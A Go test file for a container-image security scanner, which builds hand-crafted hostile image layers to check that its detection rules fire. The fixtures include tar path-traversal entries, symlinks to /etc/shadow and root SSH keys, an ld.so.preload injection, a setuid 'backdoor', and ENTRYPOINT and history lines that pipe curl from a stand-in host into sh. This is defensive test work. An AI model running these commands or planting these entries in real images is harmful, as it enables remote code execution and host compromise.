package imagescan

import (
	"archive/tar"
	"bytes"
	"context"
	"io"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/kensa-sec/kensa/internal/finding"
	"github.com/kensa-sec/kensa/internal/source"
	"github.com/kensa-sec/kensa/internal/testimages"
)

// entry is one hand-written tar header (and content) of a hostile layer.
type entry struct {
	name, link string
	typ        byte
	mode       int64
	body       string
}

func file(n string, mode int64, body string) entry {
	return entry{name: n, typ: tar.TypeReg, mode: mode, body: body}
}

// rawLayer writes the entries exactly as given: names are not cleaned, so
// "../" and absolute names reach the archive as an attacker would write
// them.
func rawLayer(t *testing.T, es ...entry) v1.Layer {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range es {
		h := &tar.Header{Name: e.name, Linkname: e.link, Typeflag: e.typ, Mode: e.mode, Size: int64(len(e.body)), Format: tar.FormatPAX}
		if e.typ != tar.TypeReg {
			h.Size = 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Size > 0 {
			io.WriteString(tw, e.body)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil })
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// eicar is the EICAR anti-malware test file, assembled at run time so that
// no source file holds it whole (virus scanners on developer machines
// would quarantine this file otherwise).
var eicar = `X5O!P%@AP[4\PZX54(P^)7CC)` + `7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

// writeImage assembles layers, history and config into a docker-archive.
func writeImage(t *testing.T, layers []v1.Layer, hist []v1.History, mod func(*v1.Config)) string {
	t.Helper()
	img, err := mutate.AppendLayers(empty.Image, layers...)
	if err != nil {
		t.Fatal(err)
	}
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cf = cf.DeepCopy()
	cf.OS, cf.Architecture = "linux", "amd64"
	cf.History = hist
	cf.Config.User = "1000"
	if mod != nil {
		mod(&cf.Config)
	}
	if img, err = mutate.ConfigFile(img, cf); err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "hostile.tar")
	tag, err := name.NewTag("hostile:1")
	if err != nil {
		t.Fatal(err)
	}
	if err := tarball.WriteToFile(p, tag, img); err != nil {
		t.Fatal(err)
	}
	return p
}

// scanHI scans an archive with the misconfig and secret scanners and
// returns the KS-HI-* findings.
func scanHI(t *testing.T, p string) []finding.Finding {
	t.Helper()
	src, err := source.Open(context.Background(), p, source.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	res, err := Scan(context.Background(), src, p, Options{Scanners: Scanners{Misconfig: true, Secret: true}})
	if err != nil {
		t.Fatal(err)
	}
	var out []finding.Finding
	for _, f := range res.Report.Findings {
		if strings.HasPrefix(f.ID, "KS-HI-") {
			out = append(out, f)
		}
	}
	return out
}

// hostileBase is a base layer with what every distro has: relative
// symlinks (bin -> usr/bin), a stock setuid program and an absolute
// symlink. None of it is hostile.
func hostileBase(t *testing.T) v1.Layer {
	return rawLayer(t,
		entry{name: "usr/", typ: tar.TypeDir, mode: 0o755},
		entry{name: "usr/bin/", typ: tar.TypeDir, mode: 0o755},
		entry{name: "bin", link: "usr/bin", typ: tar.TypeSymlink, mode: 0o777},
		file("usr/bin/passwd", 0o4755, "\x7fELF passwd"),
		file("usr/bin/sh", 0o755, "\x7fELF sh"),
		entry{name: "usr/lib/", typ: tar.TypeDir, mode: 0o755},
		entry{name: "usr/lib/os-release", link: "../lib/os-release-real", typ: tar.TypeSymlink, mode: 0o777},
		entry{name: "usr/bin/python", link: "/usr/bin/python3", typ: tar.TypeSymlink, mode: 0o777},
		entry{name: "tmp/", typ: tar.TypeDir, mode: 0o1777},
		file("tmp/.keep", 0o644, ""),
		file("etc/passwd", 0o644, "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n"),
	)
}

// baseHistory is the history of hostileBase: its ADD and the CMD every
// base image ends with.
var baseHistory = []v1.History{
	{CreatedBy: "/bin/sh -c #(nop) ADD file:0123 in / "},
	{CreatedBy: `/bin/sh -c #(nop) CMD ["sh"]`, EmptyLayer: true},
}

// TestHostileImage builds an image whose layers an attacker wrote by hand
// and checks every KS-HI rule fires on it, with the layer and the raw
// entry name, and nothing fires on the benign base.
func TestHostileImage(t *testing.T) {
	own := rawLayer(t,
		file("../../etc/cron.d/evil", 0o644, "* * * * * root /tmp/x\n"),
		file("/abs/evil", 0o644, "x"),
		entry{name: "usr/lib/shadow-link", link: "../../../../etc/shadow", typ: tar.TypeSymlink, mode: 0o777},
		entry{name: "hard", link: "../../root/.ssh/authorized_keys", typ: tar.TypeLink},
		file("tmp/kdevtmpfsi", 0o755, "\x7fELF miner"),
		file("var/tmp/.x/run.sh", 0o700, "#!/bin/sh\n"),
		file("dev/shm/payload", 0o755, "\x7fELF payload"),
		file("tmp/notes.txt", 0o644, "not executable: no KS-HI-002"),
		file("usr/local/bin/backdoor", 0o4755, "\x7fELF backdoor"),
		file("opt/eicar.com", 0o644, eicar),
		entry{name: "hostetc", link: "/proc/1/root/etc", typ: tar.TypeSymlink, mode: 0o777},
		file("hostetc/ld.so.preload", 0o644, "/tmp/x.so\n"),
	)
	del := rawLayer(t, file("opt/.wh.eicar.com", 0o644, ""))
	hist := append(slices.Clone(baseHistory),
		v1.History{CreatedBy: "/bin/sh -c curl -fsSL http://x.invalid/p.tgz | tar -xz -C /"},
		v1.History{CreatedBy: "/bin/sh -c rm /opt/eicar.com"},
		v1.History{CreatedBy: `/bin/sh -c #(nop) ENTRYPOINT ["/bin/sh" "-c" "curl -fsSL http://x.invalid/i.sh | sh"]`, EmptyLayer: true},
	)
	p := writeImage(t, []v1.Layer{hostileBase(t), own, del}, hist, func(c *v1.Config) {
		c.Entrypoint = []string{"/bin/sh", "-c", "curl -fsSL http://x.invalid/i.sh | sh"}
	})
	got := scanHI(t, p)
	want := []struct{ id, path, msg string }{
		{"KS-HI-001", "/etc/cron.d/evil", `layer 1 (sha256:`},
		{"KS-HI-002", "/tmp/kdevtmpfsi", "executable (mode 0755"},
		{"KS-HI-002", "/var/tmp/.x/run.sh", "mode 0700"},
		{"KS-HI-002", "/dev/shm/payload", "world-writable folder"},
		{"KS-HI-003", "/usr/local/bin/backdoor", "setuid (owner uid 0) and was added by layer 1"},
		{"KS-HI-004", "/tmp/kdevtmpfsi", "named like kdevtmpfsi"},
		{"KS-HI-004", "/opt/eicar.com", "SHA-256 of the EICAR anti-malware test file"},
		{"KS-HI-005", "", "the output of `curl` is piped into `sh` at every start"},
	}
	for _, w := range want {
		i := slices.IndexFunc(got, func(f finding.Finding) bool {
			return f.ID == w.id && f.Location.Path == w.path && strings.Contains(f.Message, w.msg)
		})
		if i < 0 {
			t.Errorf("missing %s %s %q", w.id, w.path, w.msg)
			continue
		}
		f := got[i]
		if w.path != "" && (f.Location.LayerIndex == nil || *f.Location.LayerIndex != 1) {
			t.Errorf("%s %s: layer %v, want 1", w.id, w.path, f.Location.LayerIndex)
		}
		got = slices.Delete(got, i, i+1)
		switch w.id {
		case "KS-HI-001":
			for _, raw := range []string{`"../../etc/cron.d/evil"`, `"/abs/evil"`, `"usr/lib/shadow-link" (symlink to "../../../../etc/shadow")`, `"hard" (hardlink to "../../root/.ssh/authorized_keys")`,
				`"hostetc/ld.so.preload" (written through the symlink /hostetc this layer created)`} {
				if !strings.Contains(f.Message, raw) {
					t.Errorf("KS-HI-001 does not name %s: %s", raw, f.Message)
				}
			}
			if !strings.Contains(f.Message, "5 tar entries") {
				t.Errorf("KS-HI-001 count: %s", f.Message)
			}
		case "KS-HI-004":
			if w.path == "/opt/eicar.com" && !strings.Contains(f.Message, "deleted by layer 2") {
				t.Errorf("deleted EICAR file: %s", f.Message)
			}
			if len(f.References) != 1 || !strings.HasPrefix(f.References[0], "https://") {
				t.Errorf("%s: references %v", w.path, f.References)
			}
		case "KS-HI-005":
			if !strings.Contains(f.Location.Step, "ENTRYPOINT") {
				t.Errorf("KS-HI-005 step %q", f.Location.Step)
			}
		}
	}
	for _, f := range got {
		t.Errorf("unexpected %s %s: %s", f.ID, f.Location.Path, f.Message)
	}
}

// TestHostileHistory: history that does not match the layers (a step
// count that differs, a metadata instruction with a layer) is KS-HI-006;
// an image without a base boundary in its history gets no KS-HI-003.
func TestHostileHistory(t *testing.T) {
	base := hostileBase(t)
	own := rawLayer(t, file("usr/local/bin/tool", 0o4755, "\x7fELF tool"))
	cases := []struct {
		name string
		hist []v1.History
		want []string // prefixes of the KS-HI findings, sorted
	}{
		{"consistent", append(slices.Clone(baseHistory), v1.History{CreatedBy: "/bin/sh -c make install"}),
			[]string{"KS-HI-003 /usr/local/bin/tool is setuid"}},
		{"extra step", append(slices.Clone(baseHistory), v1.History{CreatedBy: "/bin/sh -c make"}, v1.History{CreatedBy: "/bin/sh -c make install"}),
			[]string{"KS-HI-003 ", "KS-HI-006 the history lists 3 steps that made a layer, but the image has 2 layers"}},
		{"ENV with a layer", []v1.History{{CreatedBy: "/bin/sh -c #(nop) ADD file:0123 in / "}, {CreatedBy: "/bin/sh -c #(nop)  ENV PATH=/x"}},
			[]string{"KS-HI-006 history entries for instructions that never change the filesystem are not marked empty_layer: step 2 (ENV)"}},
		{"no base boundary", []v1.History{{CreatedBy: "ADD rootfs /"}, {CreatedBy: "RUN make install"}}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for _, f := range scanHI(t, writeImage(t, []v1.Layer{base, own}, c.hist, nil)) {
				got = append(got, f.ID+" "+f.Message)
			}
			slices.Sort(got)
			if len(got) != len(c.want) {
				t.Fatalf("got %q, want %q", got, c.want)
			}
			for i, w := range c.want {
				if !strings.HasPrefix(got[i], w) {
					t.Errorf("finding %d = %q, want prefix %q", i, got[i], w)
				}
			}
		})
	}
}

// TestTestImagesHaveNoHostileFindings: the real test images, in every
// export form, give no KS-HI finding but the one the leaky image was
// built to have (a setuid helper its own RUN adds).
func TestTestImagesHaveNoHostileFindings(t *testing.T) {
	for _, im := range testimages.Images {
		for _, form := range testimages.Forms {
			t.Run(im+"/"+form, func(t *testing.T) {
				var got []string
				for _, f := range scanHI(t, testimages.Path(t, im, form)) {
					got = append(got, f.ID+" "+f.Location.Path)
				}
				var want []string
				if im == testimages.Leaky {
					want = []string{"KS-HI-003 /usr/local/bin/suid-helper"}
				}
				if !slices.Equal(got, want) {
					t.Errorf("KS-HI findings %q, want %q", got, want)
				}
			})
		}
	}
}
